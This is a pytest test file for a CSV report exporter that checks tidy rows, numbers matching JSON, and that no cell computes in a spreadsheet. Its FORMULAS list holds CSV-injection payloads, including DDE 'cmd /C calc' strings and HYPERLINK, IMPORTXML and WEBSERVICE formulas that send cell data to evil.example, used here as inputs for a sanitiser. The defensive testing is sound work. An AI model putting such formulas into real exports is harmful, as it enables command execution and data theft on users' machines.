"""The report as a table for spreadsheets: tidy, with numbers that are numbers, and with no text that computes."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from listener.report import csv as as_csv
from listener.report import json as as_json
from storage.sqlite import SqliteStore
from tests.command import Command
from tests.conftest import Golden
from tests.made import AT, ago, arrival
from tests.test_report import OPEN, fill, fill_long, full_report, long_report, report

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    '=IMPORTXML("https://evil.example", "//a")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u2060=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x1f=1+1",
    "'=1+1",
    '"=1+1',
    '";=1+1',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "﹣1+1",
    "fine;=1+1",
    "fine; =1+1",
    'fine";"=1+1',
    "fine\n=1+1",
    "fine\t=1+1",
]
BEGINS = re.compile("[=+\\-@＝＋－＠﹢﹣﹦﹫\t\r\n]")
NUMBER = re.compile(r"-?\d+(\.\d+)?(e-?\d+)?")


def table(rendered: str) -> list[dict[str, str]]:
    assert rendered.startswith("\ufeff")
    lines = list(csv.reader(io.StringIO(rendered[1:], newline=""), strict=True))
    assert {len(line) for line in lines} == {len(as_csv.Row._fields)}, "a row is ragged"
    return [dict(zip(lines[0], line, strict=True)) for line in lines[1:]]


def computed(rendered: str, delimiter: str = ",") -> list[str]:
    """Cells that a spreadsheet would run, as one that takes `delimiter` for the end of a cell reads them."""
    lines = csv.reader(io.StringIO(rendered.removeprefix("\ufeff"), newline=""), delimiter=delimiter)
    cells = [cell.strip(' \u00a0\u3000\u200b"') for line in lines for cell in line]
    return [cell for cell in cells if cell.strip() and BEGINS.match(cell) and not NUMBER.fullmatch(cell)]


# -- golden


def test_the_table_reads_as_agreed(store: SqliteStore, golden: Golden) -> None:
    golden("report/full_report.csv", as_csv.render([full_report(store)]))


def test_a_longer_table_reads_as_agreed(store: SqliteStore, golden: Golden) -> None:
    fill_long(store)
    golden("report/long_report.csv", as_csv.render([long_report(store)]))


# -- tidy


def test_every_row_says_of_whom_and_of_when_it_speaks(store: SqliteStore) -> None:
    fill(store)
    rows = table(as_csv.render([report(store), report(store, brand="Rival")]))
    assert {row["brand"] for row in rows} == {"Acme", "Rival"}
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", row[end]) for row in rows for end in ("since", "until"))
    assert all(row["section"] for row in rows)


def test_figures_are_numbers_and_the_same_as_in_json(store: SqliteStore) -> None:
    told = full_report(store)
    rows = table(as_csv.render([told]))
    figure = next(row for row in rows if row["name"] == "implied NPS")
    known = as_json.as_dict(told)["inps"]
    assert [float(figure[key]) for key in ("value", "low", "high")] == [known[key] for key in ("value", "low", "high")]
    assert figure["value"].startswith("-") and figure["unit"] == "points"
    assert all(NUMBER.fullmatch(row[key]) for row in rows for key in ("value", "low", "high") if row[key])


def test_authors_are_not_counted_as_mentions(store: SqliteStore) -> None:
    rows = table(as_csv.render([full_report(store)]))
    assert {row["name"]: row["unit"] for row in rows if row["section"] == "waterfall"} == {
        **dict.fromkeys(("pool", "eligible", "scored", "opinion"), "mentions"),
        "authors": "authors",
    }


def test_a_withheld_number_is_an_empty_cell_with_the_reason_beside_it(store: SqliteStore) -> None:
    (first, *_) = table(as_csv.render([report(store, OPEN)]))
    assert (first["name"], first["value"], first["low"]) == ("implied NPS", "", "")
    assert first["text"].startswith("not enough opinions")


def test_days_and_labels_add_up(store: SqliteStore) -> None:
    fill_long(store)
    told = long_report(store)
    rows = table(as_csv.render([told]))
    days = sum(int(row["value"]) for row in rows if row["section"] == "days")
    labels = sum(int(row["value"]) for row in rows if row["section"] == "labels")
    assert days == labels == told.population.eligible


def test_two_tables_of_the_same_data_are_the_same_bytes(store: SqliteStore) -> None:
    told = full_report(store)
    assert as_csv.render([told]) == as_csv.render([told])


def test_excel_is_told_that_it_is_utf8_in_a_file_too(tmp_path: Path) -> None:
    command = Command(tmp_path)
    assert command("report", "--format", "csv", "-o", str(tmp_path / "acme.csv")).code == 0
    written = (tmp_path / "acme.csv").read_bytes()
    assert written.startswith(b"\xef\xbb\xbfbrand,since,until,section,") and b"\r\r\n" not in written
    assert written.count(b"\r\n") == written.count(b"\n")


# -- no text computes


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_text(formula: str) -> None:
    line = io.StringIO(newline="")
    csv.writer(line).writerow([as_csv.harmless(formula), -1.5, as_csv.harmless(f"fine {formula}")])
    assert not computed(line.getvalue())
    assert not computed(line.getvalue(), ";")
    assert not computed(line.getvalue(), "\t")


@given(st.text(st.sampled_from("=+-@＝;'\" \t\r\n\u200b\ufeffa1,"), max_size=12))
def test_no_text_computes_wherever_a_cell_ends(text: str) -> None:
    line = io.StringIO(newline="")
    csv.writer(line).writerow(["Acme", as_csv.harmless(text)])
    assert not computed(line.getvalue())
    assert not computed(line.getvalue(), ";")


@pytest.mark.parametrize(
    "text", ["Acme is great", "well-known", "1 + 1 = 2", "a@b.example", "5-6", "it's fine; really", ""]
)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert as_csv.harmless(text) == text


def test_a_report_full_of_formulas_is_harmless(store: SqliteStore) -> None:
    page = [
        arrival(
            str(n), handle=text, label="detractor", title=text, text=text, url=text, source=text, at=ago(hours=n + 1)
        )
        for n, text in enumerate(FORMULAS)
    ]
    store.add_page(page, AT)
    rendered = as_csv.render([report(store, top=100)])
    assert len(table(rendered)) > 2 * len(FORMULAS)
    assert not computed(rendered) and not computed(rendered, ";")
